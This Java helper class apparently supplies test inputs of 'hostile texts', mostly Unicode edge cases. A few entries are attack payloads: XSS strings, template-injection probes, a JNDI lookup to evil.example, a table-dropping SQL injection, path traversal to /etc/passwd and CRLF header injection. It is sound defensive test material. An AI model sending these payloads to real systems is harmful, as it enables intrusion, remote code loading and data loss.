package io.social4j.spring;

import java.util.ArrayList;
import java.util.List;

/** Texts that have broken programs: every control character, emoji and their joiners, both directions, markup, escapes, SQL. */
final class HostileTexts {

    private static final List<String> NAUGHTY = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "{{7*7}}",
            "${7*7}",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime)}",
            "%s%n%x",
            "'; DROP TABLE social_scheduled_post; --",
            "1' OR '1'='1",
            "\\",
            "\\u0000",
            "\u0000",
            "\u0000\u0000ends\u0000",
            "\u0010shown as \u2400 not \u0000",
            "\u0010\u0010",
            "\u2400",
            "\"",
            "'",
            "`",
            "\u001b[31mred\u001b[0m",
            "\u001b]0;title\u0007",
            "line\r\nSet-Cookie: a=b",
            "../../etc/passwd",
            "\u202etxt.exe",
            "\u2066isolated\u2069",
            "\u200f\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
            "\u05e9\u05dc\u05d5\u05dd",
            "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
            "\ud83c\udde9\ud83c\uddea",
            "\ud83d\udc4d\ud83c\udffd",
            "e\u0301",
            "Z\u0351\u036b\u0343a\u0300l\u0300g\u0300o\u0300",
            "\ufeffbom",
            "zero\u200bwidth",
            "\u2028line\u2029paragraph",
            "\ufffd\ufffe\uffff",
            "\ud835\udd18\ud835\udd2b",
            "\u3053\u3093\u306b\u3061\u306f",
            "NULL",
            "undefined",
            "-1e1000",
            "  blanks  ");

    private HostileTexts() {}

    static List<String> all() {
        List<String> texts = new ArrayList<>(NAUGHTY);
        for (int c = 0; c < 0x100; c++) {
            texts.add("a" + (char) c + "b");
        }
        for (int c = 0x1F600; c < 0x1F600 + 80; c++) {
            texts.add("x" + Character.toString(c));
        }
        for (int c = 0x2000; c < 0x2070; c++) {
            texts.add("p" + (char) c + "q");
        }
        for (int c = 0xFE00; c < 0xFE10; c++) {
            texts.add("v" + (char) c + "w");
        }
        for (int c = 0xE0020; c < 0xE0030; c++) {
            texts.add("t" + Character.toString(c));
        }
        return texts;
    }

    /** What a message may show of it. */
    static String named(String text) {
        StringBuilder name = new StringBuilder();
        text.codePoints().limit(8).forEach(c -> name.append(String.format("U+%04X ", c)));
        return name.toString();
    }
}
